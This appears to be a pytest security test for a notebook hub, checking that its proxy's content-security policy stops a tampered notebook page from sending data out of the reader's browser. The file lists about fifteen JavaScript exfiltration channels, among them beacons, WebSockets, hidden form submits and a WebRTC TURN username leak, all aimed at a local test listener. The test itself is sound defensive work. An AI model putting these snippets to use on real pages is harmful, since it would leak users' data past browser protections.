"""A page of a notebook server can not phone home from the reader's browser, not even where the server was changed."""

import json
import re
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import docker
import httpx
import pytest
from playwright.sync_api import Browser

from hub.names import network_name
from tests.support.browser import chromium
from tests.support.hub import House, RunningHub, containers_of, hub_settings, running_hub
from tests.support.outside import OnHost, host_listener

CHANNELS = {
    "image": "new Image().src = there",
    "fetch": "fetch(there, {mode: 'no-cors'})",
    "request": "const x = new XMLHttpRequest(); x.open('GET', there); x.send()",
    "beacon": "navigator.sendBeacon(there, 'a row of data')",
    "socket": "new WebSocket(there.replace('http', 'ws'))",
    "events": "new EventSource(there)",
    "script": "add('script', {src: there})",
    "style": "add('link', {rel: 'stylesheet', href: there})",
    "picture-of-a-style": "add('div', {style: `background: url(${there}); width: 9px; height: 9px`})",
    "font": "const f = new FontFace('f', `url(${there})`); f.load()",
    "frame": "add('iframe', {src: there})",
    "object": "add('object', {data: there})",
    "video": "add('video', {src: there, autoplay: ''})",
    "form": "const f = add('form', {action: there, target: 'hidden'}); add('iframe', {name: 'hidden'}); f.submit()",
    "module": "import(there)",
}

LIMITS = {
    "navigation": "setTimeout(() => { location = there }, 500)",
    "peer": "const p = new RTCPeerConnection({iceServers: [{urls: `turn:${new URL(there).host}?transport=tcp`, "
    "username: 'a row of data', credential: 'x'}]}); p.createDataChannel('x'); "
    "p.createOffer().then(o => p.setLocalDescription(o))",
}
"""What no header prevents, in Chromium: the standard tier does not promise it, the strict tier does."""

SERVER = """
import http.server, json, sys, urllib.parse
CHANNELS, LIMITS = json.loads(sys.argv[1]), json.loads(sys.argv[2])
class Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        there = urllib.parse.parse_qs(urllib.parse.urlsplit(self.path).query).get("there", [""])[0]
        script = "function add(tag, given) { const e = document.createElement(tag);"
        script += "for (const n in given) e.setAttribute(n, given[n]); document.body.append(e); return e }"
        tried = urllib.parse.parse_qs(urllib.parse.urlsplit(self.path).query).get("try", CHANNELS)
        for name, action in {name: {**CHANNELS, **LIMITS}[name] for name in tried}.items():
            at = json.dumps(there + "/" + name)
            script += "(() => { const there = %s; try { %s } catch (e) {} })();" % (at, action)
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(("<body><script>%s</script>" % script).encode())
http.server.ThreadingHTTPServer(("0.0.0.0", 8888), Page).serve_forever()
"""


@pytest.fixture(scope="module")
def changed_image() -> Iterator[str]:
    """An image whose server sends no policy and a page that tries every way out."""
    client = docker.from_env()
    container = client.containers.create("myelin/notebook:latest")
    program = json.dumps(["python", "-I", "-c", SERVER, json.dumps(CHANNELS), json.dumps(LIMITS)])
    container.commit("myelin-test/changed", "latest", conf={"Cmd": json.loads(program)})
    container.remove()
    yield "myelin-test/changed:latest"
    client.images.remove("myelin-test/changed:latest")


@pytest.fixture(scope="module")
def server(
    tmp_path_factory: pytest.TempPathFactory, provider: int, changed_image: str
) -> Iterator[tuple[RunningHub, Any]]:
    folder = tmp_path_factory.mktemp("changed")
    with running_hub(hub_settings(folder, provider, notebook_image=changed_image)) as hub:
        house = House(hub)
        rosa = house.person()
        study = house.project(rosa)
        assert hub.visitor(rosa).spawn(rosa, study).is_success
        yield hub, containers_of(study)[0]


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as running:
        yield running


def channels_through(browser: Browser, page_url: str, listener: OnHost, only: str = "") -> set[str]:
    """Open a page that tries every channel to the listener, or only one, and return those that got there."""
    page = browser.new_page()
    page.goto(f"{page_url}?there={quote(f'http://127.0.0.1:{listener.port}')}{only and f'&try={only}'}")
    page.wait_for_timeout(3000)
    page.close()
    return {re.split("[ ?]", line.split("/")[1])[0] for line in listener.seen if "/" in line}


def addresses(server: tuple[RunningHub, Any]) -> tuple[str, str]:
    """Return the page's address through the public proxy, and the container's own."""
    hub, container = server
    person, project = container.labels["org.myelin.person"], container.labels["org.myelin.project"]
    inside = container.attrs["NetworkSettings"]["Networks"][network_name(hub.settings, project)]["IPAddress"]
    path = f"/user/{person}/{project}/page"
    return f"http://{person}.notebooks.localhost:{hub.settings.hub_port}{path}", f"http://{inside}:8888{path}"


def test_every_way_out_is_open_where_nobody_sets_a_policy(browser: Browser, server: tuple[RunningHub, Any]) -> None:
    _, direct = addresses(server)
    with host_listener() as listener:
        assert channels_through(browser, direct, listener) == set(CHANNELS)


def test_none_is_open_through_the_public_proxy(browser: Browser, server: tuple[RunningHub, Any]) -> None:
    proxied, _ = addresses(server)
    with host_listener() as listener:
        assert channels_through(browser, proxied, listener) == set()


def test_what_no_policy_prevents_is_still_what_the_documents_say(
    browser: Browser, server: tuple[RunningHub, Any]
) -> None:
    proxied, _ = addresses(server)
    with host_listener() as listener:
        assert channels_through(browser, proxied, listener, only="navigation") == {"navigation"}
    with host_listener() as listener:
        channels_through(browser, proxied, listener, only="peer")
        assert listener.seen


def test_the_servers_own_policy_is_kept_beside_the_proxys(hub: RunningHub, house: House) -> None:
    rosa = house.person()
    study = house.project(rosa)
    answer = hub.visitor(rosa).spawn(rosa, study)
    policies = answer.headers.get_list("content-security-policy")
    assert sum("default-src 'self'" in policy for policy in policies) == 2
    assert answer.headers["x-dns-prefetch-control"] == "off"
    assert answer.headers["referrer-policy"] == "same-origin"


def test_the_hubs_own_pages_keep_their_own(hub: RunningHub) -> None:
    answer = httpx.get(f"http://127.0.0.1:{hub.settings.hub_port}/hub/api/")
    assert "script-src" not in answer.headers.get("content-security-policy", "")
